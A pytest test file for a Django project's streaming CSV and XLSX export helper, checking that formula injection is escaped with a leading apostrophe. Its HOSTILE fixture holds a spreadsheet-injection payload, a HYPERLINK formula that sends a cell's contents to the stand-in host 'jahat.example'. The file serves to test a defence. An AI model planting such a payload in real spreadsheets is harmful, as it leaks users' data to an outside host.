"""The streaming export helper: formula escaping after every transformation, for every
control character before each of = + - @, in CSV (Python and COPY) and XLSX."""

import csv
import io

import pytest
from django.db.models import Value
from openpyxl import load_workbook

from kimportal.core.exports import (
    Column,
    copy_csv_stream,
    csv_stream,
    formula_safe,
    xlsx_stream,
)
from kimportal.regions.models import Region

CONTROLS = [chr(c) for c in range(0x20)] + ["\x7f"]
TRIGGERS = ["=", "+", "-", "@"]
HOSTILE = [
    c + t + 'HYPERLINK("http://jahat.example/?d="&A2,"Lihat")'
    for c in CONTROLS
    for t in TRIGGERS
]
HOSTILE += [t + "SUM(1+1)" for t in TRIGGERS]


def _csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _is_escaped(text: str) -> bool:
    return text.startswith("'")


def test_formula_safe_escapes_every_control_character_and_trigger():
    for value in HOSTILE:
        assert formula_safe(value) == "'" + value
    assert formula_safe("KIM Mentari") == "KIM Mentari"
    assert formula_safe("") == ""


def test_python_csv_escapes_every_hostile_cell():
    rows = _csv(b"".join(csv_stream([["h"], *[[v] for v in HOSTILE]])))
    cells = [r[0] for r in rows[1:]]
    # csv turns a lone CR into CRLF on reading back; what counts is the apostrophe first.
    assert all(_is_escaped(c) for c in cells)
    assert len(cells) == len(HOSTILE)


@pytest.mark.django_db
@pytest.mark.parametrize("value", [v for v in HOSTILE if not v.startswith("\x00")])
def test_copy_csv_escapes_in_sql(value):
    queryset = Region.objects.filter(code="35")
    data = b"".join(copy_csv_stream(queryset, [Column("Nama", Value(value))]))
    rows = _csv(data)
    assert rows[0] == ["Nama"]
    assert rows[1][0].startswith("'")
    assert rows[1][0][1:].replace("\r\n", "\r") == value.replace("\r\n", "\r")


def test_xlsx_cells_never_start_with_a_trigger_after_control_characters_are_removed():
    data = b"".join(xlsx_stream([("Data", [["Nama"], *[[v] for v in HOSTILE]])]))
    sheet = load_workbook(io.BytesIO(data)).active
    values = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert len(values) == len(HOSTILE)
    for cell in sheet.iter_rows(min_row=2):
        assert cell[0].data_type == "s"
        assert cell[0].value.startswith("'"), repr(cell[0].value)


def test_xlsx_keeps_numbers_numbers_and_streams_in_blocks():
    rows = [["Nama", "Jumlah"]] + [[f"KIM {i}", i] for i in range(1200)]
    blocks = list(xlsx_stream([("Data", rows)]))
    assert len(blocks) > 3
    sheet = load_workbook(io.BytesIO(b"".join(blocks))).active
    assert sheet.cell(row=2, column=2).value == 0
    assert sheet.cell(row=1201, column=1).value == "KIM 1199"
